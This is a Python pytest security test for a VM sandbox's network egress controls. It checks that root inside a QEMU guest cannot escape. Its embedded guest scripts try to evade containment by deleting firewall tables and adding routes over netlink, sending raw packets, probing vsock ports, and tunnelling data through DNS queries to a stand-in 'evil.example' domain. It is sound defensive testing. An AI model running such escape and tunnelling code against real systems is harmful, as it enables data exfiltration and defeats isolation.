"""Threat: who is root of a virtual machine, and so of all that its kernel has of a network, reaches
what no rule allows, another machine, or the host; or has names carry data.

Controls: there is no network card; what leaves are vsock streams to the machine's own device, which
say what was dialled, and are judged by that. Where a rule names it there is an answer.
"""

import contextlib
import json
from collections.abc import Iterator
from typing import Any

import msgspec
import pytest
from tests.captured import Names, Served, relayed
from tests.security.test_restricted_network import DIAL, _own_addresses

from agentd import Sandbox
from agentd.client import build
from agentd.client.embedded_service import EmbeddedService
from agentd.daemon.pipeline import Pipeline
from agentd.egress import keeper
from agentd.egress.relay.synthetic import MAX_WILD
from agentd.model.egress import EgressBounds, StaticHost
from agentd.model.principal import local
from agentd.sandbox.manager import Manager
from agentd.testing.patience import SLOWER

pytestmark = [pytest.mark.needs("qemu-system-x86_64"), pytest.mark.timeout(900)]
WHO = local("test")
RULES = ["db.internal:*", "*.evil.example:443"]
#: Of its kernel: the redirect of what is dialled, and routes.
_UNDOES = """
import errno, json, socket, struct, sys
def tried(action, *args):
    try:
        return action(*args)
    except OSError as error:
        return errno.errorcode.get(error.errno, str(error))
def netlink(protocol, *messages):
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol) as sock:
        sock.settimeout(20)
        sock.send(b"".join(struct.pack("=IHHII", 16 + len(body), kind, flags, n, 0) + body
                           for n, (kind, flags, body) in enumerate(messages)))
        code = -struct.unpack_from("=i", sock.recv(4096), 16)[0]
        return errno.errorcode[code] if code else "done"
def packet(family, kind, protocol, to):
    with socket.socket(family, kind, protocol) as sock:
        sock.sendto(bytes(60), to)
    return "sent"
def stream(cid, to, address, port):
    with socket.socket(socket.AF_VSOCK) as sock:
        sock.settimeout(20)
        sock.connect((cid, to))
        sock.send(struct.pack(">BBH16sI", 1, 4, port, socket.inet_aton(address), 4) + b"who?")
        return sock.recv(12)[4:].decode("latin-1") or "closed"
rightly = stream(2, 1019, socket.gethostbyname("db.internal"), 5432)
found = {"rightly": rightly, "packets": [
    tried(packet, socket.AF_INET, socket.SOCK_RAW, 253, ("127.0.0.1", 0)),
    tried(packet, socket.AF_PACKET, socket.SOCK_DGRAM, 0, ("lo", 0x800)),
]}
table = (10 << 8) | 2, 5, bytes(4)  # NFT_MSG_DELTABLE, of every one
found["rules"] = tried(netlink, 12, (16, 1, b"\\0\\0\\0\\n"), table, (17, 1, b"\\0\\0\\0\\n"))
route = struct.pack("=8BI", 2, 0, 0, 0, 255, 3, 254, 2, 0) + struct.pack("=HHI", 8, 4, 1)
found["routes"] = tried(netlink, 0, (25, 5, route))
"""
_DIALS = (
    _UNDOES
    + DIAL
    + """
port, hosts = int(sys.argv[1]), sys.argv[2:]
found["dialled"] = {host: named(host, port) for host in hosts}
found["streams"] = {f"{cid} {to}": tried(stream, cid, to, "127.0.0.1", port)
    for cid in (1, 2, 3, 4) for to in (22, 1019, 5000, port)}
found["cards"] = [name for _, name in socket.if_nameindex()]
print(json.dumps(found))
"""
)
_LISTENS = '''
import json, subprocess
code = """import socket
with socket.create_server(("", 8080)) as server:
    print(1, flush=True)
    server.accept()[0].sendall(b"here")"""
argv = ["python3", "-c", code]
server = subprocess.Popen(argv, stdout=subprocess.PIPE, start_new_session=True)
server.stdout.readline()
print(json.dumps("listening"))
'''
_ASKS = """
import json, socket, struct
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sock.settimeout(60)
sock.connect(("9.9.9.9", 53))
def code(name, number):
    labels = b"".join(bytes((len(each),)) + each.encode() for each in name.split("."))
    head = struct.pack(">HHHHHH", number, 0x100, 1, 0, 0, 0)
    sock.send(head + labels + struct.pack(">BHH", 0, 1, 1))
    while (answer := sock.recv(4096))[:2] != head[:2]:
        pass
    return answer[3] & 15
print(json.dumps([[code(f"data{at}.{of}.example", at) for at in range(count)]
    for of, count in (("evil", 600), ("other", 20))]))
"""


def _says(sock: Any) -> None:
    sock.recv(100)
    sock.sendall(b"the host")


@pytest.fixture(scope="module")
def served() -> Iterator[Served]:
    made = Served(_says)
    yield made
    made.close()


@pytest.fixture(scope="module")
def names() -> Iterator[Names]:
    """What this machine's relay asks: one who knows all names of evil.example."""
    with (
        relayed(evil_example=["203.0.113.9"]) as (kept, asked),
        pytest.MonkeyPatch.context() as patch,
    ):
        patch.setattr(keeper, "_shared", kept)
        yield asked


@pytest.fixture(scope="module")
def boxes(served: Served, names: Names) -> Iterator[list[Sandbox]]:
    """Two machines, whose commands are root's."""
    pipeline = Pipeline(Manager())
    with contextlib.ExitStack() as made:
        made.callback(pipeline.manager.close)
        found = pipeline.manager.backend("qemu").probe()
        if not found.usable:
            pytest.skip("; ".join(blocker.what for blocker in found.blockers))
        spec = build.sandbox_spec(backend="qemu", net=RULES, memory="96M", user="root")
        hosts = (StaticHost("db.internal", "127.0.0.1", served.port),)
        spec = msgspec.structs.replace(spec, egress_bounds=EgressBounds(hosts=hosts))
        service = EmbeddedService(pipeline, WHO)

        def make() -> Sandbox:
            box = Sandbox(service, service.adopt(pipeline.open(WHO, spec)))
            assert _named(made.enter_context(box)) == "the host"
            return box

        yield [make(), make()]


def _ran(box: Sandbox, code: str, *words: str) -> Any:
    done = box.run(["python3", "-c", code, *words], check=True, timeout=300 * SLOWER)
    return json.loads(done.stdout)


def _named(box: Sandbox, host: str = "db.internal", port: int = 1) -> str:
    asks = f"import errno, json, socket\n{DIAL}\nprint(json.dumps(named({host!r}, {port})))"
    return str(_ran(box, asks))


def test_a_wildcard_carries_only_so_many_names_out_of_a_machine(
    boxes: list[Sandbox], names: Names
) -> None:
    """DNS tunnelling. By: names a second, and different names, that one sandbox may ask for."""
    evil, other = _ran(boxes[0], _ASKS)
    left = {name for name, _ in names.asked}
    assert 200 <= len(left) <= MAX_WILD
    assert evil.count(0) == len(left) and evil.count(2) == len(evil) - len(left)  # SERVFAIL
    assert other == [3] * 20 and not any("other" in name for name in left)
    assert _named(boxes[0]) == "the host"


def test_root_of_its_kernel_undoes_the_way_out_and_has_no_other(
    boxes: list[Sandbox], served: Served
) -> None:
    """By: no card, and a device at whose other end is this machine's relay alone."""
    other, box = boxes  # the first may have been denied as much as is told one by one
    assert _ran(other, _LISTENS) == "listening"
    numbers = [*_own_addresses(), "127.0.0.1", "10.0.0.1", "8.8.8.8", "2001:db8::1"]
    found = _ran(box, _DIALS, str(served.port), *numbers)
    at_8080 = [_named(each, "127.0.0.1", 8080) for each in boxes]
    assert at_8080 == ["here", "ECONNREFUSED"]
    assert found["rightly"] == "the host"  # whoever opens such a stream has dialled
    assert found["packets"] == ["sent", "sent"]
    assert (found["rules"], found["routes"]) == ("done", "done")
    assert found["cards"] == ["lo"]
    told = [*found["dialled"].values(), *found["streams"].values()]
    assert len(told) > 19 and "the host" not in told, found
    # Whoever says that loopback was dialled is refused as who dials it.
    rows = box.network.connections().connections
    assert (False, served.port) in {(r.allowed, r.port) for r in rows if r.address == "127.0.0.1"}
    assert _named(other) == "the host"
